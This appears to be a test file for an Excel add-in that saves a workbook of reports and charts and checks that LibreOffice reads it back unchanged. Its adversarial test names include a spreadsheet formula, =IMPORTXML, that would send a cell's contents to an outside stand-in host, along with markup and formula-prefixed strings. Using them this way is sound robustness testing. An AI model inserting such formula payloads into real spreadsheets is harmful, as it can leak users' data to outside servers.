import { workbookCharts } from '../../excel-addin/host/workbook/charts';
import { workbookStore } from '../../excel-addin/host/workbook/document-store';
import { workbookSheets } from '../../excel-addin/host/workbook/sheets';
import { workbookStyler } from '../../excel-addin/host/workbook/styler';
import { saveWorkbook } from '../../playground/excel/save/save';
import { CHART_KINDS } from '../../shared/chart-writer';
import { saveChart } from '../../shared/dashboard/kept-chart';
import { runAsync } from '../../shared/task';
import { type FakeOrganisation, fakeOrganisation } from '../doubles/fake-organisation';
import { activity, DAYS, report } from '../shared/report/report-bench';
import { makeAllReady } from './all-ready';
import { throughLibreOffice } from './libreoffice';
import { type ReadSheet, readWorkbook } from './read-workbook';
import { refreshBench } from './refresh-bench';
import { workbookBench } from './workbook-bench';

/** Names that could be taken for something else, and one as long as they get. */
const NAMES = [
  'Ada Byron',
  '=IMPORTXML("http://example.com/?"&A1,"//a")',
  `"It's" <b>&amp; 'x'`,
  '👩‍🚀 Zoë',
  'n'.repeat(255),
  '_x0041_',
  ' a  b ',
  '1e5',
];
const HOSTILE = `=1+1 "<x>" & 'y' 😀`;

function organisation(): FakeOrganisation {
  const log = NAMES.map((name, at) =>
    activity(at + 1, '2026-03-17', { personId: at + 1, seconds: 600 + at, title: name, executable: name }),
  );
  const made = fakeOrganisation(NAMES.length, DAYS.slice(4), log);
  return {
    ...made,
    people: made.people.map((person, at) => ({ ...person, name: NAMES[at] ?? '' })),
    groups: made.groups.map((group) => ({ ...group, name: `=${group.name} & "O'Neil"` })),
    days: made.days.map((day, at) => ({ ...day, productive: 14_400 + ((at * 7919) % 18_000), passive: (at * 911) % 4000 })),
  };
}

/** The ten ready sheets, and a report with a chart of each kind. */
async function saved(): Promise<Uint8Array> {
  const book = await workbookBench();
  try {
    const documents = workbookStore();
    const settled = book.calculates();
    const bench = refreshBench(workbookSheets(), documents, undefined, { charts: workbookCharts(), styler: workbookStyler() });
    await makeAllReady(documents, bench, [organisation()]);
    for (const kind of CHART_KINDS) {
      const columns = [{ key: 'user' }, { key: 'active' }, { key: 'passive' }] as const;
      await bench.save(report({ id: kind, name: kind, columns, unit: 'days', destination: { sheet: `It's <${kind}> 😀`, cell: 'A1' } }));
      const chart = { kind, title: HOSTILE, categoryTitle: '', valueTitle: HOSTILE, category: 'user', position: { right: 1, below: 0 } };
      const series = kind === 'pie' ? ['active'] : ['active', 'passive'];
      await runAsync(saveChart(documents, kind, { version: 1, name: kind, chart: { ...chart, series } }));
      await bench.refresh(kind);
    }
    await settled();
    return saveWorkbook(book.workbook);
  } finally {
    book.dispose();
  }
}

describe('A saved workbook in LibreOffice', () => {
  let ours: readonly ReadSheet[];
  let theirs: readonly ReadSheet[];

  beforeAll(async () => {
    const file = await saved();
    ours = readWorkbook(file);
    theirs = readWorkbook(throughLibreOffice(file));
  }, 180_000);

  const both = <T>(part: (sheet: ReadSheet) => T): readonly [readonly (readonly [string, T])[], readonly (readonly [string, T])[]] => [
    theirs.map((sheet) => [sheet.name, part(sheet)]),
    ours.map((sheet) => [sheet.name, part(sheet)]),
  ];

  it('has the same sheets, and calculates what the playground did', () => {
    const [found, expected] = both(({ values }) => Object.fromEntries(values));
    expect(found).toEqual(expected);
    expect(expected.flatMap(([, values]) => Object.values(values)).length).toBeGreaterThan(2000);
  });

  it('has the same formulas', () => {
    const [found, expected] = both(({ formulas }) => Object.fromEntries(formulas));
    expect(found).toEqual(expected);
  });

  it('has the same frozen rows, colors, lists and print set-up', () => {
    const [found, expected] = both(({ frozenRows, rules, lists, print }) => ({ frozenRows, rules, lists, print }));
    expect(found).toEqual(expected);
  });

  it('has the same charts', () => {
    const [found, expected] = both(({ charts }) => charts);
    expect(found).toEqual(expected);
  });
});
